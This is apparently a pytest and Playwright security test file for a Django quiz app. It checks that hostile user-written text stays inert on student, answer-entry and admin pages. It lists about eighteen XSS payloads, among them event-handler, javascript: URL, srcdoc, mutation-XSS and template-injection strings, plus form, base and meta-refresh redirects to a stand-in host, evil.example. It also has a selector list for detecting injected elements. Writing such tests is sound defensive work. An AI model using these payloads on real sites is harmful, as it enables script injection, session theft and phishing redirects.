"""Text that wants to be code stays text, wherever a person can write it (docs/decisions/security.md, case 30)."""

import pytest
from django.urls import reverse

from quizzes.items import Option
from quizzes.models import Candidate, Topic
from tests.factories import (
    AttemptFactory,
    CandidateFactory,
    ClassroomFactory,
    EnrolmentFactory,
    FactFactory,
    QuestionFactory,
    QuizFactory,
    SourceFactory,
    TopicFactory,
    UserFactory,
)
from tests.support.clients import client_of, client_signed_in

from .waiting import wait_for_htmx

pytestmark = pytest.mark.django_db(transaction=True)

CORPUS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "\"'><script>alert(1)</script>",
    "\" autofocus onfocus=alert(1) x=\"",
    "</title></textarea></script><script>alert(1)</script>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "**<img src=x onerror=alert(1)>**",
    "*a*{{ 7|add:7 }}{% now 'Y' %}",
    "[x](javascript:alert(1)) ![x](x)",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>body{display:none}</style>",
    "<form action=//evil.example><input name=answer>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "\u202e\x1b<b hx-get=/ hx-trigger=load>x",
)  # fmt: skip
INJECTED = (
    "main script, main iframe, main style, main base, main form[action*=evil], main b, [onerror], [onload], [onfocus], "
    "main [srcdoc], a[href^=javascript], head base, head meta[http-equiv], main math, main [hx-trigger=load]"
)


class World:
    """A bank, a class and a round in which everything that can be written is hostile."""

    def __init__(self):
        self.superuser = UserFactory(superuser=True, first_name=CORPUS[0], last_name=CORPUS[1])
        self.questions = [self.question(text) for text in CORPUS]
        self.quizzes = [QuizFactory(title=text, description=text, questions=self.questions) for text in CORPUS]
        self.classroom = ClassroomFactory(name=CORPUS[0], teachers=[self.superuser], quizzes=self.quizzes)
        self.attempt = AttemptFactory(quiz=self.quizzes[1])
        EnrolmentFactory(classroom=self.classroom, learner=self.attempt.learner, nickname="<b onload=alert(1)>me")
        for text in CORPUS:
            EnrolmentFactory(classroom=self.classroom, nickname=text)

    def question(self, text):
        source = SourceFactory(
            title=text, text=f"It was {text} in 2001.", publisher=text, licence=text, perspective=text
        )
        topic: Topic = TopicFactory(name=text)
        sentence = source.sentences.first()
        quote = sentence.text[:12]
        fact = FactFactory(sentence=sentence, quote=quote, topic=topic, subject=text, answer=text, note=text)
        return QuestionFactory(
            stem=f"{text} Which?",
            options=(Option(f"{text} right", 1.0, feedback=text), Option(f"{text} wrong", feedback=text)),
            explanation=text,
            topic=topic,
            sentence=sentence,
            quote=quote,
            attributed_to=text,
            kind="claim",
            fact=fact,
        )


@pytest.fixture
def world(transactional_db):
    return World()


@pytest.fixture
def dialogs(page):
    opened = []
    page.on("dialog", lambda dialog: (opened.append(dialog.message), dialog.dismiss()))
    return opened


@pytest.fixture
def carry(page, base_url):
    """Give the browser the cookies of a test client."""

    def carry(client):
        page.context.add_cookies(
            [{"name": name, "value": morsel.value, "url": base_url} for name, morsel in client.cookies.items()]
        )

    return carry


def visit(page, address):
    page.goto(address)
    wait_for_htmx(page)
    assert page.locator(INJECTED).count() == 0, address


class TestHostileText:
    def test_would_be_noticed(self, page, dialogs, complaints):
        page.goto("/")
        with page.expect_console_message(lambda message: "Content Security Policy" in message.text):
            page.evaluate("document.querySelector('main').innerHTML = '<img src=x onerror=alert(1)>'")
        assert page.locator(INJECTED).count() == 1
        assert any("Content Security Policy" in complaint for complaint in complaints)
        assert dialogs == []

    def test_does_nothing_on_the_pages_of_a_student(self, page, world, carry, dialogs, complaints):
        carry(client_of(world.attempt.learner))
        for address in (
            "/",
            world.quizzes[1].get_absolute_url(),
            world.classroom.get_absolute_url(),
            *(question.sentence.source.get_absolute_url() for question in world.questions[::6]),
        ):
            visit(page, address)
        page.goto(world.attempt.get_absolute_url())
        for _question in world.questions:
            page.locator("#question input[name=answer]").nth(1).check()
            page.get_by_role("button", name="Answer").click()
            page.locator("#verdict").wait_for()
            assert page.locator(INJECTED).count() == 0
            page.locator("[data-enter]").click()
        page.wait_for_url("**/result/")
        for summary in page.locator(".answered summary").all():
            summary.click()
        assert page.locator(INJECTED).count() == 0
        assert (dialogs, complaints) == ([], [])

    def test_does_nothing_where_it_is_typed(self, page, world, carry, dialogs, complaints):
        short = QuestionFactory(item_type="short_answer", options=(Option("Tashkent", 1.0),))
        attempt = AttemptFactory(quiz=QuizFactory(questions=[short]))
        carry(client_of(attempt.learner))
        page.goto(attempt.get_absolute_url())
        page.get_by_role("textbox").fill(CORPUS[1])
        page.get_by_role("button", name="Answer").click()
        page.locator("#verdict").wait_for()
        assert page.locator(INJECTED).count() == 0
        visit(page, f"{attempt.get_absolute_url()}result/")
        assert (dialogs, complaints) == ([], [])

    def test_does_nothing_on_the_pages_of_a_teacher(self, page, world, carry, dialogs, complaints):
        carry(client_signed_in(world.superuser))
        question, fact = world.questions[1], world.questions[1].fact
        source = question.sentence.source
        pages = [
            ("question", question.pk, ("change", "history", "delete", "preview")),
            ("fact", fact.pk, ("change", "delete")),
            ("source", source.pk, ("change", "delete")),
            ("quiz", world.quizzes[1].pk, ("change", "delete")),
            ("classroom", world.classroom.pk, ("change", "delete")),
            ("topic", question.topic.pk, ("change",)),
        ]
        candidates = [
            CandidateFactory(sentence=question.sentence, topic=question.topic, answer=text, start=start, end=start + 1)
            for start, text in enumerate(CORPUS[:5])
        ]
        Candidate.objects.filter(pk=candidates[1].pk).update(status="accepted", fact=fact)
        pages += [("candidate", source.pk, ("look", "drafts"))]
        pages += [("candidate", row.pk, ("review",)) for row in candidates[:2]]
        addresses = ["/admin/", world.classroom.get_absolute_url()]
        for model, pk, names in pages:
            if model != "candidate":
                addresses.append(reverse(f"admin:quizzes_{model}_changelist"))
            addresses += [reverse(f"admin:quizzes_{model}_{name}", args=[pk]) for name in names]
        for address in addresses:
            page.goto(address)
            wait_for_htmx(page)
            assert page.locator("[onerror], [onload], [onfocus], a[href^=javascript], iframe").count() == 0, address
            assert (dialogs, complaints) == ([], []), address
